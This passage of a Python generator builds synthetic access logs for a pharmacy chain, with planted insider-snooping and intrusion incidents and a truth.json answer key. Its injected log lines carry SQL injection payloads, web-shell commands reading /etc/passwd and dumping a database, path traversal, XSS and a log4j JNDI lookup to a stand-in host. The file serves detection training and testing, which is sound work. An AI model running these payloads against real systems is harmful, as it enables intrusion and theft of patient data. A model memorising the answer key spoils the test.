            "amount",
            [p.uid],
            f"a clerk went through {cnt} face sheets of patients who did not come that day",
            "many times the own and the colleagues' usual number, hardly any with a check-in, numbers in one run",
        )

    def i_collect(self, g: str, tag: str) -> None:
        p, r = self.insider(self.rng.choice(["ph", "cl"])), self.rng
        per, cnt, length = {"easy": (45, 8, 13), "medium": (17, 11, 19), "hard": (7, 16, 28)}[g]
        low = r.randint(20, 60)
        for d in self.spread(cnt, length, self.here(p)):
            s = self.sess[(p.uid, d)]
            pids = self.unvisited(p.store, d, max(3, self.nb(per, 20)), low)
            low, a, b = int(pids[-1][2:]) + 1 if pids else 1, s.t0, max(s.t1, s.t0 + 7200)
            for k, pid in enumerate(pids):
                self.look(
                    p,
                    s,
                    a + (b - a) * (0.08 + 0.88 * (k + r.random()) / len(pids)),
                    pid,
                    "karte" if p.role == "ph" else "patient",
                    tag,
                )
        self.tell(
            tag,
            g,
            "weeks",
            [p.uid],
            f"reads the branch's patients in the order of their numbers, about {per} a day, over weeks",
            "records without a check-in or an entry, each day beginning where the last one ended; more different patients than the colleagues",
        )

    def i_stalker(self, g: str, tag: str) -> None:
        p, r = self.insider("ph"), self.rng
        other = r.choice([x for x in self.stores if x != p.store])
        pid = f"{other:02d}{r.randint(30, 140):05d}"
        per, cnt, length = {"easy": (5, 8, 14), "medium": (2, 9, 16), "hard": (1, 8, 28)}[g]
        for d in self.spread(cnt, length, self.here(p)):
            s = self.sess[(p.uid, d)]
            for _ in range(r.randint(per, per + 1) if g != "hard" else 1):
                self.look(p, s, s.t0 + r.uniform(0.1, 0.95) * (s.t1 - s.t0), pid, "karte", tag)
        self.tell(
            tag,
            g,
            "weeks",
            [p.uid],
            f"opens one patient of branch {other:02d} ({pid}) again and again",
            "the same subject of a foreign branch, never with a visit or an entry",
        )

    def i_vip(self, g: str, tag: str) -> None:
        r, cnt = self.rng, {"easy": 9, "medium": 4}[g]
        d0, who = self.fast(lambda d: d > 15 and self.workday(d)), []
        for _ in range(cnt):
            p = self.pick(
                self.role("ph", "cl"),
                lambda p: (
                    p.store not in (0, int(self.vip[:2]))
                    and any(self.here(p)(x) for x in (d0, d0 - 1))
                ),
            )
            d = d0 if self.here(p)(d0) else d0 - 1
            s = self.sess[(p.uid, d)]
            who.append(p.uid)
            for _ in range(r.randint(1, 2)):
                self.look(
                    p,
                    s,
                    s.t0 + r.uniform(0.1, 0.95) * (s.t1 - s.t0),
                    self.vip,
                    "karte" if p.role == "ph" else "patient",
                    tag,
                )
        self.tell(
            tag,
            g,
            "other",
            who,
            "staff of other branches opened the record of an actress",
            "the watched record, opened where she has never been, without a visit",
        )

    def i_export(self, g: str, tag: str) -> None:
        r = self.rng
        if g == "hard":  # weeks: a branch a day
            p = self.pick(self.role("quality"))
            for i, d in enumerate(
                self.spread(16, 27, lambda d: self.works(p, d) and self.workday(d))
            ):
                self.iis(
                    p,
                    d * DAY + r.uniform(10, 17.5) * 3600,
                    f"/export/review?store={i + 3:02d}",
                    size=int(r.lognormvariate(11, 0.3)),
                    tag=tag,
                )
            what = "a quality officer exports the reviews of one branch after the other, one a day"
        else:
            p = self.pick(
                self.role("claims")[3:] if g == "easy" else self.role("area"),
                lambda p: any(self.works(p, d) for d in range(self.n // 2, self.n)),
            )
            d = self.fast(lambda d: self.works(p, d) and self.workday(d))
            t = d * DAY + (22.4 if g == "easy" else 18.4) * 3600
            for i in range(30 if g == "easy" else 5):
                self.iis(
                    p,
                    t + i * r.uniform(20, 50),
                    f"/export/claims?store={i + 1:02d}",
                    size=int(r.lognormvariate(13, 0.3)),
                    tag=tag,
                )
            what = "claims of many branches exported by somebody who never exports"
        self.tell(
            tag,
            g,
            "export",
            [p.uid],
            what,
            "exports where the person had none or one a month, other branches each time",
        )

    def i_left(self, g: str, tag: str) -> None:
        p, r, gone = self.leaver if g == "easy" else self.dormant, self.rng, g == "easy"
        d = (
            self.fast()
            if gone
            else self.someday(
                33,
                self.n - 1,
                lambda d: self.hours(self.stores[p.store], d) is not None and self.wd(d) < 5,
            )
        )
        t = d * DAY + (r.uniform(20, 22) if gone else r.uniform(12.5, 14)) * 3600
        s = self.login(
            p, d, t, VPN.format(203) if gone else self.terminal(p.store), p.store, tag=tag
        )
        self.spree(p, d, s, t, {"easy": 45, "medium": 16, "hard": 4}[g], 25, 110, tag)
        self.tell(
            tag,
            g,
            "other",
            [p.uid],
            "the account of somebody who left was used over VPN"
            if gone
            else "the account of a pharmacist on long leave was used at her branch",
            "left_on in the personnel list is past"
            if gone
            else "no use for more than a month, then histories without visit and entry",
        )

    def i_hijack(self, g: str, tag: str) -> None:
        p, r = self.insider("ph"), self.rng
        d = self.fast(self.here(p))
        s = self.sess[(p.uid, d)]
        away = Session(
            s.sid,
            VPN.format(r.randint(130, 180)),
            s.ua if g == "hard" else UA_LINUX,
            s.t0,
            s.t0,
            p.store,
        )
        self.spree(
            p,
            d,
            away,
            s.t0 + r.uniform(9000, 16000),
            {"easy": 70, "medium": 20, "hard": 6}[g],
            10,
            80,
            tag,
        )
        self.tell(
            tag,
            g,
            "session",
            [p.uid, away.ip],
            "the session of a pharmacist at work was used at the same time from a VPN address",
            "one session id from two addresses at once, the second without sign-in",
        )

    def i_night(self, g: str, tag: str) -> None:
        p, r = self.insider("ph"), self.rng
        d = self.fast(lambda d: d > 15)
        t = d * DAY + (r.uniform(0.8, 2.2) if g != "hard" else r.uniform(22.6, 23)) * 3600
        s = self.login(p, d, t, VPN.format(r.randint(181, 199)), p.store, tag=tag)
        self.spree(p, d, s, t, {"easy": 150, "medium": 28, "hard": 8}[g], 12, 70, tag)
        self.tell(
            tag,
            g,
            "hours",
            [p.uid],
            "histories read at night over VPN by somebody who is not on call",
            "never at night and never by VPN before; no entry written, unlike those on call",
        )

    def i_place(self, g: str, tag: str) -> None:
        p, r = self.pick(self.role("visit")), self.rng
        d = self.fast(lambda d: self.works(p, d) and self.workday(d))
        ua = {"easy": "python-requests/2.32.3", "medium": UA_LINUX, "hard": UA_PHONE[2]}[g]
        ip = self.mobile() if g == "hard" else self.abroad()
        t, f = (
            d * DAY + r.uniform(11, 14) * 3600,
            r.choice([f for f in self.homes if f not in self.rounds[p.uid]]),
        )
        self.tablet(p, t, ip, "/login", "POST", 302, ua, tag)
        self.tablet(p, t + 9, ip, f"/homes/{f}/residents", ua=ua, tag=tag)
        for rid in (self.homes[f] * 3)[: {"easy": 80, "medium": 25, "hard": 8}[g]]:
            t += r.uniform(3, 20) if g == "easy" else r.uniform(20, 80)
            self.tablet(p, t, ip, f"/residents/{rid}", ua=ua, tag=tag)
        self.tell(
            tag,
            g,
            "place",
            [p.uid, ip],
            "the account of a visiting pharmacist was used elsewhere while she was on her round",
            "another device and network in the middle of the round, a home that is not hers, no report written",
        )

    def i_spray(self, g: str, tag: str) -> None:
        r, vps = self.rng, [p for p in self.role("visit") if p.uid not in self.used]
        hit, ips = (
            r.choice(vps),
            [self.abroad() for _ in range({"easy": 1, "medium": 6, "hard": 9}[g])],
        )
        self.used.add(hit.uid)
        days = self.spread(9, 13, lambda d: True) if g == "hard" else [self.fast(lambda d: True)]
        t = 0.0
        for k, d in enumerate(days):
            t = d * DAY + r.uniform(1, 3) * 3600
            for p in vps * {"easy": 25, "medium": 3, "hard": 1}[g]:
                t += r.uniform(1, 4) if g == "easy" else r.uniform(30, 150)
                self.tablet(
                    p,
                    t,
                    ips[k % 9] if g == "hard" else r.choice(ips),
                    "/login",
                    "POST",
                    401,
                    UA_FOX,
                    tag,
                )
        for k, target in enumerate(
            ["/login", f"/homes/{self.rounds[hit.uid][0]}/residents"]
            + [f"/residents/{x}" for x in self.homes[self.rounds[hit.uid][0]][:15]]
        ):
            self.tablet(
                hit,
                t + 60 + k * 25,
                ips[-1],
                target,
                "GET" if k else "POST",
                200 if k else 302,
                UA_FOX,
                tag,
            )
        self.tell(
            tag,
            g,
            "login",
            ips + [hit.uid],
            f"passwords of all visiting pharmacists were tried from outside; {hit.uid} fell and residents were read",
            "failures at every account in turn, then one success from the same source",
        )

    def i_stuffing(self, g: str, tag: str) -> None:
        r = self.rng
        tries, nights = {"easy": (650, 1), "medium": (280, 1), "hard": (15, 11)}[g]
        net = (
            [self.abroad()]
            if g == "easy"
            else [f"45.141.87.{i}" for i in r.sample(range(2, 250), 60)]
        )
        days, victims, at, low = (
            self.spread(nights, nights + 4, lambda d: True),
            [],
            {},
            r.randint(21000, 24000),
        )
        bad = {r.randrange(tries * nights) for _ in range(4 if g == "easy" else 3)}
        for k, d in enumerate(days):
            for i in range(tries):
                nr = k * tries + i
                m, ip, t = (
                    f"m{low + nr:07d}",
                    r.choice(net),
                    d * DAY + 3600 * (1 + 4 * i / tries) + r.random() * 9,
                )
                at[ip] = at.get(ip, 0) + 1
                self.app(t, ip, m, "/api/login", "POST", 200 if nr in bad else 401, UA_FOX, tag=tag)
                if nr in bad:
                    victims += [m, ip]
                    self.app(t + 5, ip, m, f"/api/notebook/{m}", ua=UA_FOX, tag=tag)
                    self.app(t + 9, ip, m, f"/api/notebook/{m}/items", ua=UA_FOX, tag=tag)
        self.tell(
            tag,
            g,
            "login",
            ["okusuri"] + sorted(set(victims)) + sorted(at, key=lambda x: (-at[x], x))[:20],
            "members' numbers tried in order with guessed passwords; some opened",
            "one try a member in rising numbers at night, one browser from one net, then notebooks read",
        )

    def i_idor(self, g: str, tag: str) -> None:
        r, m = self.rng, self.rng.choice(self.members)
        per, cnt = {"easy": (250, 1), "medium": (42, 1), "hard": (6, 11)}[g]
        num, sid = r.randint(30000, 35000), self.hexid(24)
        for d in (
            self.spread(cnt, cnt + 5 if cnt > 1 else 1, lambda d: True)
            if cnt > 1
            else [self.fast(lambda d: True)]
        ):
            t = d * DAY + r.uniform(19.5, 21) * 3600
            for _ in range(max(3, self.nb(per, 30))):
                num, t = num + 1, t + r.uniform(3, 14)
                self.app(
                    t,
                    self.mhome[m],
                    m,
                    f"/api/family/m{num:07d}",
                    status=403 if r.random() < 0.35 else 200,
                    sid=sid,
                    tag=tag,
                )
        self.tell(
            tag,
            g,
            "outsider",
            [m, self.mhome[m]],
            "a member opened other members' children by counting up the number",
            "foreign family numbers in rising order, refused and given in turn; a member otherwise has one to three",
        )

    def i_share(self, g: str, tag: str) -> None:
        r, ip = self.rng, self.abroad()
        per, cnt = {"easy": (320, 1), "medium": (55, 2), "hard": (11, 11)}[g]
        for d in self.spread(cnt, cnt + 3, lambda d: True):
            t = d * DAY + r.uniform(8, 18) * 3600
            for m in r.sample(self.members, per):
                t += r.uniform(1, 5) if g == "easy" else r.uniform(40, 200)
                self.app(
                    t,
                    ip,
                    "",
                    f"/api/share/{m}",
                    ua=UA_FOX if g != "easy" else "curl/8.7.1",
                    tag=tag,
                )
        self.tell(
            tag,
            g,
            "outsider",
            [ip],
            "notebooks fetched by the sharing address without key and without sign-in",
            "200 on share links that lack the key k; one address, many members, where a doctor opens one",
        )

    def i_sqli(self, g: str, tag: str) -> None:
        r, ip, d = self.rng, self.abroad(), self.fast(lambda d: True)
        t, cnt = d * DAY + r.uniform(2, 20) * 3600, {"easy": 160, "medium": 12, "hard": 5}[g]
        pay = [
            "13%27%20UNION%20SELECT%20NULL,tel,name%20FROM%20reserve--%20",
            "13%27%20AND%201=1--%20",
            "13%27%20AND%201=2--%20",
            "13%27%20OR%20%271%27=%271",
        ]
        for i in range(cnt):
            p = (
                f"13%27%20AND%20%28SELECT%201%20FROM%20%28SELECT%28SLEEP%285%29%29%29x%29--%20{i}"
                if g == "hard"
                else r.choice(pay)
            )
            last = i >= cnt - 3
            t += r.uniform(0.3, 2) if g == "easy" else r.uniform(15, 90)
            self.add(
                "www",
                t,
                ip,
                "",
                "GET",
                f"/stores?pref={p}",
                200 if last or g == "hard" else 500,
                int(r.uniform(2e5, 6e5)) if last and g != "hard" else 0,
                "sqlmap/1.8.6#stable (https://sqlmap.org)" if g == "easy" else UA_FOX,
                ms=5000 + r.randint(10, 90) if g == "hard" else 0,
                tag=tag,
            )
        self.tell(
            tag,
            g,
            "web",
            [ip],
            "SQL injection on the store search, and it worked",
            "statements in pref; afterwards 200 with very large answers"
            if g != "hard"
            else "SLEEP(5) in pref and answers of just over five seconds",
        )

    def i_shell(self, g: str, tag: str) -> None:
        r, ip = self.rng, self.abroad()
        name = f"/uploads/pod/img_{r.randint(20000, 29999)}.php"
        days = self.spread(11, 15, lambda d: True) if g == "hard" else [self.fast(lambda d: True)]
        self.add(
            "haiso",
            days[0] * DAY + 3.1 * 3600,
            ip,
            "",
            "POST",
            "/upload?type=pod",
            200,
            ua=UA_FOX,
            tag=tag,
        )
        for d in days:
            for i in range({"easy": 60, "medium": 14, "hard": 2}[g]):
                q = (
                    f"?cmd={r.choice(['id', 'uname%20-a', 'cat%20/etc/passwd', 'ls%20-la%20/var/www', 'mysqldump%20haiso'])}"
                    if g == "easy"
                    else ""
                )
                self.add(
                    "haiso",
                    d * DAY + 3.2 * 3600 + i * r.uniform(20, 60),
                    ip,
                    "",
                    "GET" if q else "POST",
                    name + q,
                    200,
                    r.randint(300, 60000),
                    UA_FOX,
                    tag=tag,
                )
        self.tell(
            tag,
            g,
            "web",
            [ip],
            f"a program was planted among the delivery photographs ({name}) and called",
            "a .php in the uploads answers 200, only ever asked for by one address outside",
        )

    def i_gap(self, g: str, tag: str) -> None:
        if g == "hard":
            s = self.rng.choice(
                [
                    s
                    for s in self.stores.values()
                    if s.kind != "mall"
                    and s.mean > 12
                    and s.opened < 0
                    and s.closed > self.n
                    and s is not self.moving[0]
                ]
            )
            days = self.spread(6, 9, lambda d: self.workday(d) and self.wd(d) != 3)
            self.lost += [(s.site, None, d * DAY + 13.2 * 3600, (d + 1) * DAY) for d in days]
            self.tell(
                tag,
                g,
                "silence",
                [s.site],
                f"the reception box of {s.site} records nothing after one o'clock, day after day",
                "patients are served in yakureki, but no check-in comes in the afternoon",
                True,
                (days[0], days[-1], [s.site]),
            )
            return
        d = self.fast(lambda d: self.workday(d) and self.wd(d) != 3)
        self.lost.append(
            (
                "yakureki",
                None if g == "easy" else 1,
                d * DAY + 10.3 * 3600,
                d * DAY + (13 if g == "easy" else 24) * 3600,
            )
        )
        self.tell(
            tag,
            g,
            "silence",
            ["yakureki"],
            "yakureki's lines are missing from 10:20 to 13:00"
            if g == "easy"
            else "the lines of app2 are missing from 10:20 on; half of the record is lost",
            "the boxes show check-ins all the while",
            True,
            (d, d, ["yakureki"]),
        )

    def i_errors(self, g: str, tag: str) -> None:
        d = self.fast(lambda d: d != self.release)
        share, a, b, ua, days = {
            "easy": (0.7, 11, 14, "", 1),
            "medium": (0.28, 17, 20, "", 1),
            "hard": (0.22, 0, 24, "Android 14", 3),
        }[g]
        d = min(d, self.n - days)
        self.sick.append(
            (
                "okusuri",
                d * DAY + a * 3600,
                (d + days - 1) * DAY + b * 3600,
                share,
                500 if g == "easy" else 502,
                ua,
                tag,
            )
        )
        self.tell(
            tag,
            g,
            "errors",
            ["okusuri"],
            f"the app's server answers {share:.0%} of requests with errors"
            + (f", only {ua}" if ua else ""),
            "share of 5xx against the weeks before",
        )

    def i_clock(self, g: str, tag: str) -> None:
        s = self.rng.choice(
            [
                s
                for s in self.stores.values()
                if s.kind != "mall"
                and s.opened < 0
                and s.closed > self.n
                and s is not self.moving[0]
            ]
        )
        d = self.someday(max(15, self.n // 2), self.n - 8)
        sec = 9 * 3600 if g == "medium" else 41 * 60
        self.shift.append((s.site, d * DAY + 9 * 3600, min(self.n, d + 12) * DAY, -sec, tag))
        self.tell(
            tag,
            g,
            "other",
            [s.site],
            f"the clock of {s.site} is {sec // 60} minutes slow from a day on",
            "check-ins lie before opening, or always by the same time before the face sheet is opened",
        )

    def i_service(self, g: str, tag: str) -> None:
        r, d = self.rng, self.fast(lambda d: self.wd(d) < 6)
        ip = PARTNER_IP if g == "medium" else self.mobile() if g == "hard" else self.abroad()
        ua = "python-requests/2.32.3" if g == "hard" else UA_FOX
        t = d * DAY + r.uniform(14, 20) * 3600
        for c in [c for i in range(9) for c in self.routes[i]][
            : {"easy": 150, "medium": 25, "hard": 7}[g]
        ]:
            t += r.uniform(4, 40)
            self.add("haiso", t, ip, "svc-order", "GET", f"/deliveries/{c}", ua=ua, tag=tag)
        self.tell(
            tag,
            g,
            "other",
            ["svc-order", ip],
            "the batch account that hands over orders was used by a person to read deliveries",
            "svc-order only ever posts at five in the morning from 10.40.0.7",
        )

    def i_driver(self, g: str, tag: str) -> None:
        p, r = (
            self.pick(self.role("driver"), lambda p: len(self.works_days(p)) > self.n // 2),
            self.rng,
        )
        c = r.choice(self.routes[(p.store + 1) % 9])
        per, cnt, length = {"easy": (6, 8, 12), "medium": (2, 9, 15), "hard": (1, 9, 28)}[g]
        for d in self.spread(cnt, length, lambda d: self.works(p, d) and self.wd(d) < 6):
            for _ in range(per):
                self.add(
                    "haiso",
                    d * DAY + r.uniform(17.5, 21) * 3600,
                    self.mobile(),
                    p.uid,
                    "GET",
                    f"/deliveries/{c}",
                    ua=p.ua,
                    tag=tag,
                )
        self.tell(
            tag,
            g,
            "weeks",
            [p.uid],
            f"a driver opens the address of one customer ({c}) of another route again and again after work",
            "never a delivery done there by him; the same subject over weeks",
        )

    def i_fc(self, g: str, tag: str) -> None:
        p, r = self.insider("ph", True), self.rng
        per, cnt, length = {"easy": (60, 1, 1), "medium": (9, 2, 6), "hard": (3, 9, 20)}[g]
        near = r.sample([x for x in self.stores if x != p.store], 3)
        for d in self.spread(cnt, length, self.here(p)) if cnt > 1 else [self.fast(self.here(p))]:
            s = self.sess[(p.uid, d)]
            for pid in [q for x in near for q in self.strangers(x, d, per // 3)]:
                self.look(p, s, s.t0 + r.uniform(0.1, 0.95) * (s.t1 - s.t0), pid, "karte", tag)
        self.tell(
            tag,
            g,
            "other_site",
            [p.uid],
            "a franchise pharmacist reads patients of the chain's branches nearby",
            "foreign branch numbers at the head of the patient number, no check-in there and no entry",
        )

    def i_desk(self, g: str, tag: str) -> None:
        p, r = (
            self.pick(self.role("desk"), lambda p: len(self.works_days(p)) > self.n * 0.55),
            self.rng,
        )
        per, cnt, length = {"easy": (230, 1, 1), "medium": (75, 1, 1), "hard": (8, 12, 24)}[g]
        at = r.randrange(900)
        ok = lambda d: self.works(p, d)  # noqa: E731
        for d in self.spread(cnt, length, ok) if cnt > 1 else [self.fast(ok)]:
            for m in self.members[at : at + per]:
                self.desk_call(p, d * DAY + r.uniform(12.3, 17.9) * 3600, d, m, False, tag)
            at += per
        self.tell(
            tag,
            g,
            "amount" if cnt == 1 else "weeks",
            [p.uid],
            "an operator opens members nobody called about",
            "no search by telephone number before, member numbers in one run, more than the colleagues",
        )

    def i_box(self, g: str, tag: str) -> None:
        r, ip = self.rng, self.abroad()
        s = r.choice([s for s in self.stores.values() if s.opened < 0 and s.closed > self.n])
        per, cnt = {"easy": (130, 1), "medium": (24, 1), "hard": (4, 7)}[g]
        for d in self.spread(cnt, cnt + 3, lambda d: True):
            for i, pid in enumerate(self.strangers(s.no, d, per)):
                self.add(
                    s.site,
                    d * DAY + (2.5 if g == "easy" else 14) * 3600 + i * r.uniform(20, 60),
                    ip,
                    "",
                    "GET",
                    f"/shikaku/{pid}",
                    200,
                    tag=tag,
                )
        self.tell(
            tag,
            g,
            "outsider",
            [ip, s.site],
            f"the reception box {s.site} answers an address outside with patients' insurance data",
            "any other line there comes from the branch's own network",
        )

    def i_probe(self, g: str, tag: str) -> None:
        r, ip, d = self.rng, self.abroad(), self.fast(lambda d: True)
        for i, q in enumerate(
            [
                "/?f=../../../../etc/passwd",
                "/login?next=%3Cscript%3Ealert(1)%3C/script%3E",
                "/homes/1/residents?id=1%27%20OR%201=1--",
                "/?x=${jndi:ldap://a.example/x}",
            ]
            * 3
        ):
            self.add(
                "zaitaku",
                d * DAY + r.uniform(3, 3.1) * 3600 + i * 7,
                ip,
                "",
                "GET",
                q,
                r.choice([400, 404, 403]),
                ua=UA_LINUX,
                tag=tag,
            )
        self.tell(
            tag,
            g,
            "web",
            [ip],
            "one address tried a dozen attacks on the care homes' server and got nothing",
            "attack strings, all refused",
            False,
        )

    # ---- putting it together -----------------------------------------------------------------------------------------------------
    def strike(self) -> None:
        """Choose the incidents: a third of each grade; in a long world more than half of them slow."""
        r, long = self.rng, self.n > 40
        slow = {
            "collect": "easy medium hard",
            "stalker": "easy medium hard",
            "export": "hard",
            "spray": "hard",
            "stuffing": "hard",
            "idor": "hard",
            "share": "hard",
            "shell": "hard",
            "gap": "hard",
            "driver": "easy medium hard",
            "fc": "hard",
            "desk": "hard",
            "box": "hard",
            "clock": "medium hard",
        }
        quick = {
            "walk": "easy medium hard",
            "vip": "easy medium",
            "export": "easy medium",
            "left": "easy medium hard",
            "place": "easy medium hard",
            "hijack": "easy medium hard",
            "night": "easy medium hard",
            "spray": "easy medium",
            "stuffing": "easy medium",
            "idor": "easy medium",
            "share": "easy medium",
            "sqli": "easy medium hard",
            "shell": "easy medium",
            "gap": "easy medium",
            "errors": "easy medium hard",
            "service": "easy medium hard",
            "fc": "easy medium",
            "desk": "easy medium",
            "box": "easy medium",
        }
        total = r.randint(9, 12) if long else r.randint(13, 18)
        quota = {g: (total + i) // 3 for i, g in enumerate(["easy", "medium", "hard"])}
        chosen: dict[str, str] = {}
        first = (total + 1) // 2 + 1 if long else total // 4
        must = (
            ["collect", "stalker", "driver"] if long else []
        )  # the only slow ones that are ever easy
        for source, upto in ((slow, first), (quick, total), (slow, total)):
            names = [x for x in must if x in source] + r.sample(
                [x for x in source if x not in must], len([x for x in source if x not in must])
            )
            for name in names:
                grades = [g for g in source[name].split() if quota[g] > 0]
                if name not in chosen and grades and len(chosen) < upto:
                    chosen[name] = max(grades, key=lambda g: (quota[g], -len(g)))
                    quota[chosen[name]] -= 1
        chosen["probe"] = "easy"
        for k, (name, g) in enumerate(chosen.items()):
            getattr(self, f"i_{name}")(g, f"i{k + 1:02d}")

    def served(self, site: str, h: Hit) -> Hit | None:
        """What the server really wrote of a request: lines get lost, servers fail, clocks run wrong."""
        node = int(h.sid[0], 16) % 2 if h.sid and site == "yakureki" else 0
        if any(x == site and n in (None, node) and a <= h.t < b for x, n, a, b in self.lost):
            return None
        if any(x == site and a <= h.t < b for x, a, b in self.down):
            return h._replace(status=503, size=310)
        for x, a, b, share, status, ua, tag in self.sick:
            if (
                x == site
                and a <= h.t < b
                and ua in h.ua
                and h.target.startswith("/api")
                and self.rng.random() < share
            ):
                h = h._replace(
                    status=status, size=162, ms=h.ms * (20 if status > 499 else 1), tag=h.tag or tag
                )
        for x, a, b, sec, tag in self.shift:
            if x == site and a <= h.t < b:
                h = h._replace(t=max(0.0, h.t + sec), tag=tag)
        return h

    def line(self, site: str, h: Hit) -> str:
        """One line in the site's own format."""
        w = datetime.combine(self.days[0], datetime.min.time()) + timedelta(seconds=int(h.t))
        clf, user, ua, ref = (
            f"{w:%d/%b/%Y:%H:%M:%S} +0900",
            h.user or "-",
            h.ua or "-",
            h.ref or "-",
        )
        size, path, _, query = str(h.size or "-"), *h.target.partition("?")
        if site == "yakureki":
            return f'{h.ip} - {user} [{clf}] "{h.method} {h.target} HTTP/1.1" {h.status} {size} {h.ms * 1000} "{ref}" "{ua}" "{h.sid or "-"}"'
        if site == "okusuri":
            return json.dumps(
                {
                    "time": f"{w.isoformat()}+09:00",
                    "host": DOMAINS[site],
                    "addr": f"10.60.0.{10 + h.ms % 2}",
                    "xff": h.ip,
                    "user": h.user,
                    "request": f"{h.method} {h.target} HTTP/1.1",
                    "status": str(h.status),
                    "bytes": str(h.size),
                    "rt": f"{h.ms / 1000:.3f}",
                    "referer": h.ref,
                    "ua": h.ua,
                    "sid": h.sid,
                },
                ensure_ascii=False,
            )
        if site == "honbu":
            return f"{w - timedelta(hours=9):%Y-%m-%d %H:%M:%S} 10.40.0.20 {h.method} {path} {query or '-'} 443 {user} {h.ip} {ua.replace(' ', '+')} {ref} {h.status} 0 0 {h.size} {h.ms}"
        if site == "zaitaku":
            return f"time:[{clf}]\thost:{h.ip}\tuser:{user}\treq:{h.method} {h.target} HTTP/2.0\tstatus:{h.status}\tsize:{h.size}\tua:{ua}\treferer:{ref}\tvhost:{DOMAINS[site]}\treqtime_microsec:{h.ms * 1000}"
        if site == "www":
            u = w - timedelta(hours=9)
            return (
                f"https {u.isoformat()}.{int(h.t * 1e6) % 1000000:06d}Z app/www-alb/50dc6c495c0c9188 {h.ip}:{40000 + h.ms % 20000} 10.61.0.15:80 0.000 {h.ms / 1000:.3f} 0.000 {h.status} {h.status} 320 {h.size} "
                f'"{h.method} https://{DOMAINS[site]}:443{h.target} HTTP/2.0" "{ua}" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:ap-northeast-1:123456789012:targetgroup/www/73e2d6bc24d8a067 '
                f'"Root=1-{1777000000 + int(h.t):08x}-{int(h.t * 1000) % 16777216:024x}" "{DOMAINS[site]}" "arn:aws:acm:ap-northeast-1:123456789012:certificate/12345678" 0 '
                f'{u.isoformat()}.000000Z "forward" "-" "-" "10.61.0.15:80" "{h.status}" "-" "-"'
            )
        base = f'{h.ip} - {user} [{clf}] "{h.method} {h.target} HTTP/1.1" {h.status} {size}'
        return (
            base
            if site.startswith("uketsuke")
            else f'{"desk.suzukake.example:443 " if site == "helpdesk" else ""}{base} "{ref}" "{ua}"'
        )

    def write(self, out: Path) -> None:
        """The log files, settings, context files and the truth."""
        files: dict[str, list[str]] = {}
        for site in sorted(self.hits):
            for h in sorted(filter(None, (self.served(site, h) for h in self.hits[site]))):
                d, day = int(h.t // DAY), f"{self.days[int(h.t // DAY)]:%Y%m%d}"
                name = {
                    "yakureki": f"yakureki/app{1 + (int(h.sid[0], 16) % 2 if h.sid else 0)}/access_log.{day}",
                    "okusuri": f"okusuri/access-{day}.json.gz",
                    "honbu": "",
                    "zaitaku": f"zaitaku/access.ltsv.{day}",
                    "helpdesk": f"helpdesk/other_vhosts_access.log-{day}",
                    "haiso": f"haiso/access_{day}.log",
                    "www": f"www/alb_{day}.log.gz",
                }.get(site, f"uketsuke/{site[-2:]}/access.log-{day}")
                name = (
                    name
                    or f"honbu/u_ex{self.days[0] + timedelta(days=int((h.t - 9 * 3600) // DAY)):%y%m%d}.log"
                )
                files.setdefault(name, []).append(self.line(site, h))
                if site == "haiso" and d == self.dup_day:
                    files.setdefault(f"haiso/access_{day}_resend.log", []).append(files[name][-1])
                if h.tag:
                    cnt, days, sites = self.seen.get(h.tag, (0, set(), set()))
                    self.seen[h.tag] = (cnt + 1, days | {d}, sites | {site})
        head = (
            "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
            "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken\n"
        )
        for name, lines in files.items():
            path = out / "logs" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            data = ((head if name.startswith("honbu") else "") + "\n".join(lines) + "\n").encode()
            path.write_bytes(gzip.compress(data, mtime=0) if name.endswith(".gz") else data)
        (out / "mimamori.yaml").write_text(SETTINGS, encoding="utf-8")
        self.table(
            out / "stores.csv",
            "store,name,opened_on,closed_on",
            [
                [
                    f"{s.no:02d}",
                    TOWNS[s.no - 1] + "店",
                    self.ymd(s.opened) if s.opened > 0 else "2019-04-01",
                    self.ymd(s.closed - 1) if s.closed < self.n else "",
                ]
                for s in self.stores.values()
            ],
        )
        known = [p for p in self.people if p.dept and not p.uid.startswith("fc")]
        self.table(
            out / "people.csv",
            "user,person,name,department,manager,type,company,joined_on,left_on",
            [
                [
                    p.uid,
                    p.person,
                    p.name,
                    p.dept,
                    p.manager,
                    "contractor" if p.company else "staff",
                    p.company or "すずかけ薬局",
                    p.joined or "",
                    p.left or "",
                ]
                for p in known
            ],
        )
        self.table(
            out / "privileges.csv",
            "user,department,resource,level,from,to",
            self.priv
            + [
                ("", d, "", lv, "2024-04-01", "")
                for d, lv in (
                    ("薬剤師", "3"),
                    ("応援薬剤師", "3"),
                    ("医療事務", "2"),
                    ("在宅推進課", "3"),
                    ("請求課", "3"),
                    ("品質管理室", "3"),
                    ("監査室", "2"),
                    ("情報システム室", "2"),
                    ("人事課", "2"),
                    ("エリア統括", "3"),
                    ("コールセンター", "2"),
                )
            ],
        )
        self.table(out / "watch.csv", "subject,kind,user,reason", self.watch)
        for i in self.incidents:
            cnt, days, sites = self.seen.get(i["id"], (0, set(), set()))
            a, b, where = i.pop("span") or (min(days), max(days), sorted(sites))
            i.update(first_day=self.ymd(a), last_day=self.ymd(b), site_ids=where, lines=cnt)
        about = (
            "すずかけ薬局, a chain of 42 dispensing pharmacies (six run by franchise partners) with one shared medication-history system, a reception box in each branch, a patients' app, "
            "head office, visiting pharmacists with tablets, an outsourced help desk and a delivery partner."
        )
        truth = {
            "seed": self.seed,
            "days": [d.isoformat() for d in self.days],
            "about": about,
            "incidents": self.incidents,
            "annoyances": self.annoyances,
        }
        (out / "truth.json").write_text(
            json.dumps(truth, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
        )

    @staticmethod
    def table(path: Path, head: str, rows: Iterable[Iterable[object]]) -> None:
        """A CSV file."""
        with path.open("w", encoding="utf-8", newline="") as f:
            csv.writer(f, lineterminator="\n").writerows([head.split(","), *rows])


def main() -> None:
    """Read the arguments, draw, write."""
    ap = argparse.ArgumentParser(description="draw a chain of pharmacies")
    for name, default in (("--seed", 1), ("--days", 35)):
        ap.add_argument(name, type=int, default=default)
    ap.add_argument("--out", type=Path, required=True)
    args = ap.parse_args()
    args.out.mkdir(parents=True, exist_ok=True)
    w = World(args.seed, args.days)
    for step in (w.found, w.prepare, w.draw, w.odd_days, w.strike, lambda: w.write(args.out)):
        step()


